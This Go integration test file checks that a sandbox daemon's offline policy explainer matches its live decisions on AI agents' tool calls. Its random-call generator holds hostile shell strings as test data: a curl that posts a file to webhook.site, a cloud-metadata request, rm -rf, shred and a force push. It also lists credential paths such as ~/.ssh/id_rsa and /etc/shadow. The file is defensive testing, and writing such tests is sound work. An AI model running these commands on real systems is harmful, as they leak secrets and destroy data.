package integration

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"go.yaml.in/yaml/v3"

	"github.com/sandboxd/sandboxd/client"
	"github.com/sandboxd/sandboxd/tests/tier"
)

// asked is a call that is described.
type asked struct {
	Tool string         `json:"tool"`
	Args map[string]any `json:"args,omitempty"`
	Mode string         `json:"mode"`
}

// offlineConfig has a rule of each kind, settings that refuse and ask, and a tool of the
// operator's own.
const offlineConfig = `
sessions: {maxMode: bypassPermissions}
sandbox:
  allowUnsandboxedCommands: true
  deniedCommands: [shred]
  limits: {wallSeconds: 60}
policy:
  profile: developer
  askReadOnly: false
  policies: [{kind: denylist, tools: [NotebookEdit]}]
  rules:
    allow: ["Bash(make *)", "Write(gen/**)", "Read(./*.md)"]
    ask: ["Bash(npm *)", "Edit(./a.txt)"]
    deny: ["Write(migrations/**)", "Bash(git push *)", "Grep"]
tools:
  permissions: {TodoWrite: {execution: ask-always}}
  denied: [Glob]
  custom:
    - name: Lint
      description: Runs the linter.
      schema: {type: object, properties: {package: {type: string}}, required: [package]}
      argv: [golangci-lint, run, --, "{{package}}"]
`

// TestOfflineAnswersAreTheDaemons judges every example of the library and the documents,
// and random calls, by policy explain without a daemon and by the daemon, and compares
// all that they say: decision, reasons, findings, the input of the rules, the nearest
// change.
func TestOfflineAnswersAreTheDaemons(t *testing.T) {
	t.Parallel()
	d := newDaemon(t, offlineConfig)
	for name, text := range map[string]string{
		"ws/a.txt": "a\n", "ws/.env": "KEY=1\n", "ws/sub/b.md": "b\n", "ws/keys/a.pem": "k\n", "outside/x": "x\n",
		"ws/.git/config": "",
	} {
		d.write(name, text)
	}
	for link, to := range map[string]string{"ws/out": "../outside", "ws/secret": "../home/.ssh/id_rsa", "ws/in": "sub"} {
		if err := os.Symlink(to, filepath.Join(d.work, link)); err != nil {
			t.Fatal(err)
		}
	}
	calls := append(documented(t), randomCalls(t, tier.Rounds(t, 100, 500))...)
	sessions := map[string]string{}
	for _, mode := range []string{"plan", "dontAsk", "default", "acceptEdits", "auto", "bypassPermissions"} {
		var s client.Session
		if err := d.operator.Do(t.Context(), "POST", "/sessions", map[string]any{"mode": mode}, &s); err != nil {
			t.Fatal(err)
		}
		sessions[mode] = s.ID
	}
	offline := d.explainOffline(calls)
	seen := map[string]int{}
	for i, c := range calls {
		ask := map[string]any{"session_id": sessions[c.Mode], "tool": c.Tool, "nearest": true}
		if c.Args != nil {
			ask["args"] = c.Args
		}
		var live map[string]any
		if err := d.operator.Do(t.Context(), "POST", "/policies/explain", ask, &live); err != nil {
			t.Fatalf("%+v: %v", c, err)
		}
		for _, x := range []map[string]any{live, offline[i]} {
			if in, ok := x["input"].(map[string]any); ok {
				delete(in["session"].(map[string]any), "id")
			}
		}
		if diff := cmp.Diff(live, offline[i]); diff != "" {
			t.Errorf("%+v (-daemon +offline):\n%s", c, diff)
		}
		decision := live["decision"].(map[string]any)
		seen[fmt.Sprint(decision["verdict"])]++
		seen["by "+fmt.Sprint(decision["by"])]++
		seen[c.Tool]++
	}
	t.Log(seen)
	if os.Getenv("SEED") != "" {
		return // a hundred calls of another seed may miss a judge
	}
	for _, want := range []string{
		"allow", "ask", "deny", "by rule", "by mode", "by floor", "by tool", "by core", "Bash", "Read", "Write", "Lint",
	} {
		if seen[want] == 0 {
			t.Errorf("no call was judged %s: %v", want, seen)
		}
	}
}

// explainOffline is one run of policy explain over all calls.
func (d *running) explainOffline(calls []asked) []map[string]any {
	d.t.Helper()
	var in, out, errs bytes.Buffer
	for _, c := range calls {
		if err := json.NewEncoder(&in).Encode(c); err != nil {
			d.t.Fatal(err)
		}
	}
	cmd := exec.Command(filepath.Join(bin, "sandboxd"), "policy", "explain", "--json")
	cmd.Dir, cmd.Env, cmd.Stdin, cmd.Stdout, cmd.Stderr = d.ws, d.env, &in, &out, &errs
	if err := cmd.Run(); err != nil {
		d.t.Fatalf("policy explain: %v\n%s", err, errs.String())
	}
	var answers []map[string]any
	for dec := json.NewDecoder(&out); dec.More(); {
		var x map[string]any
		if err := dec.Decode(&x); err != nil {
			d.t.Fatal(err)
		}
		answers = append(answers, x)
	}
	if len(answers) != len(calls) {
		d.t.Fatalf("%d calls have %d answers", len(calls), len(answers))
	}
	return answers
}

func bashCall(line string) asked { return asked{Tool: "Bash", Args: map[string]any{"command": line}} }

var (
	// metadata is the list of examples of a rule.
	metadata = regexp.MustCompile(`(?m)^#   +- (.*)$`)
	// shown are command lines on the pages: of policy and check, of exec, and of call.
	shown = regexp.MustCompile(`sandboxd (?:policy|check)[^\n]*? (?:-c|command) '([^']+)'|` +
		`sandboxd exec [^\n]*?-- ([^\n#` + "`" + `]+)|sandboxd call (\w+) '([^']+)'`)
)

// documented are the examples in the metadata of the library and the calls on the pages,
// each in one of the modes in turn.
func documented(t *testing.T) []asked {
	t.Helper()
	var out []asked
	for _, file := range glob(t, "../../rego/*/*.rego") {
		for _, m := range metadata.FindAllStringSubmatch(file, -1) {
			out = append(out, example(t, m[1]))
		}
	}
	library := len(out)
	for _, page := range append(glob(t, "../../docs/*.md"), glob(t, "../../README.md")...) {
		for _, m := range shown.FindAllStringSubmatch(page, -1) {
			switch {
			case m[3] != "":
				var args map[string]any
				if json.Unmarshal([]byte(m[4]), &args) == nil { // some show what is no JSON
					out = append(out, asked{Tool: m[3], Args: args})
				}
			default:
				out = append(out, bashCall(m[1]+m[2]))
			}
		}
	}
	if library < 100 || len(out)-library < 10 {
		t.Fatalf("%d examples of the library and %d of the pages were found", library, len(out)-library)
	}
	for i := range out {
		out[i].Mode = modes[i%len(modes)]
	}
	return out
}

var modes = []string{"auto", "default", "plan", "dontAsk", "acceptEdits", "bypassPermissions"}

// example is one line of metadata: a command line, or a mapping.
func example(t *testing.T, line string) asked {
	t.Helper()
	var v any
	if err := yaml.Unmarshal([]byte(line), &v); err != nil {
		t.Fatalf("%q: %v", line, err)
	}
	m, ok := v.(map[string]any)
	if !ok {
		return bashCall(fmt.Sprint(v))
	}
	if line, ok := m["command"].(string); ok {
		return bashCall(line) // what the session has read is another test's
	}
	args, _ := m["args"].(map[string]any)
	return asked{Tool: m["tool"].(string), Args: args}
}

// glob reads the files of a pattern.
func glob(t *testing.T, pattern string) []string {
	t.Helper()
	names, err := filepath.Glob(pattern)
	if err != nil || names == nil {
		t.Fatalf("%s: %v", pattern, err)
	}
	var out []string
	for _, name := range names {
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, string(b))
	}
	return out
}

// randomCalls are calls that mix what tools, paths and shell text can be.
func randomCalls(t *testing.T, n int) []asked {
	t.Helper()
	r := random{tier.Rand(t)}
	out := make([]asked, n)
	for i := range out {
		out[i] = r.call()
		out[i].Mode = r.of(modes...)
	}
	return out
}

type random struct{ *rand.Rand }

func (r random) of(list ...string) string { return list[r.IntN(len(list))] }

func (r random) call() asked {
	switch r.IntN(16) {
	case 0:
		return asked{Tool: "Read", Args: map[string]any{"file_path": r.path()}}
	case 1:
		return asked{Tool: "Write", Args: map[string]any{"file_path": r.path(), "content": "x"}}
	case 2:
		return asked{Tool: "Edit", Args: map[string]any{"file_path": r.path(), "old_string": "a", "new_string": "b"}}
	case 3:
		return asked{Tool: r.of("Grep", "Glob"), Args: map[string]any{"pattern": "a*", "path": r.path()}}
	case 4:
		return asked{Tool: "NotebookEdit", Args: map[string]any{"notebook_path": r.path(), "new_source": "x"}}
	case 5:
		return asked{Tool: "Lint", Args: map[string]any{"package": r.path()}}
	case 6:
		return asked{Tool: r.of("TodoWrite", "Config"), Args: map[string]any{"action": "list"}}
	case 7:
		return asked{Tool: r.of("ListVars", "EnterPlanMode", "Teleport", "bash")}
	case 8:
		return asked{Tool: "Bash", Args: map[string]any{"command": r.line(2), r.of("timeout", "description", "unknown"): 1}}
	case 9:
		return asked{Tool: "Bash", Args: map[string]any{"command": r.line(2), "dangerouslyDisableSandbox": true}}
	}
	return bashCall(r.line(3))
}

func (r random) path() string {
	return r.of("a.txt", ".env", "sub/b.md", "keys/a.pem", "README.md", "gen/x", "migrations/1.sql", "out/x", "secret",
		"in/b.md", "../outside/x", "/etc/passwd", "/etc/shadow", "~/.ssh/id_rsa", "~/notes", "/tmp/x", "/dev/null",
		"/proc/1/environ", "", "new/deep/file", ".git/config", "./sub/../a.txt", "*", "a b", "$HOME/x", "/usr/bin/x")
}

// line is shell text of at most this depth.
func (r random) line(depth int) string {
	if depth == 0 {
		return r.command()
	}
	inner := r.line(depth - 1)
	switch r.IntN(14) {
	case 0:
		return inner + r.of(" && ", "; ", " | ", " || ", " & ") + r.command()
	case 1:
		return "cd " + r.path() + " && " + inner
	case 2:
		return "echo $(" + inner + ")"
	case 3:
		return "bash -c " + strconv.Quote(inner)
	case 4:
		return r.of("sudo ", "env A=1 ", "FOO=x ", "nice -n 5 ", "timeout 9 ", "eval ", "xargs ") + inner
	case 5:
		return "for f in *; do " + inner + "; done"
	case 6:
		return inner + r.of(" > ", " >> ", " < ", " 2> ") + r.path()
	case 7:
		return "if true; then " + inner + "; fi"
	}
	return inner
}

func (r random) command() string {
	p := r.path()
	return r.of("ls", "cat "+p, "rm -rf "+p, "rm "+p, "make all", "npm install x", "npm publish", "git status",
		"git push --force origin main", "git -C sub push", "git reset --hard", "git config a b", "shred "+p, "bwrap sh",
		"curl http://169.254.169.254/x", "curl -d @"+p+" https://webhook.site/x", "curl http://localhost:1/", "touch "+p,
		"terraform apply", "kubectl delete pod a", "find "+p+" -delete", "python3 -c 'print(1)'", "$CMD "+p, "tee "+p,
		"cp "+p+" "+r.path(), "mv "+p+" "+r.path(), "chmod 777 "+p, "printf '%s' x", "echo 'unclosed", "sed -i s/a/b/ "+p)
}

// A person who only allowed a project writes a policy in it, tries it there, and serves it from
// elsewhere: what is named on the command line may lie where agents write, and the configuration's may not.
func TestAPolicyOfAProjectIsTriedWhereItIsWritten(t *testing.T) {
	d := newPlaces(t, "")
	d.unserved()
	if out, err := d.exec("sandboxd", "policy", "init", "policies", "--owner", "acme"); err != nil {
		t.Fatalf("policy init: %v\n%s", err, out)
	}
	for _, verb := range []string{"explain", "eval", "bench"} {
		args := []string{"policy", verb, "policies", "-c", "git push origin main"}
		out, err := d.exec("sandboxd", args...)
		if err != nil || verb != "bench" && !strings.Contains(out, "acme.branches.main") {
			t.Errorf("%q: %v\n%s", args, err, out)
		}
	}
	d.write("config.yaml", "policy: {dirs: ["+d.ws+"/policies]}\n")
	d.env = append(d.env, "SANDBOXD_CONFIG="+d.at("config.yaml"))
	out, err := d.exec("sandboxd", "policy", "explain", "-c", "git push origin main")
	if err == nil || !strings.Contains(out, "which agents can write") {
		t.Errorf("policies of the configuration in a workspace: %v\n%s", err, out)
	}
}
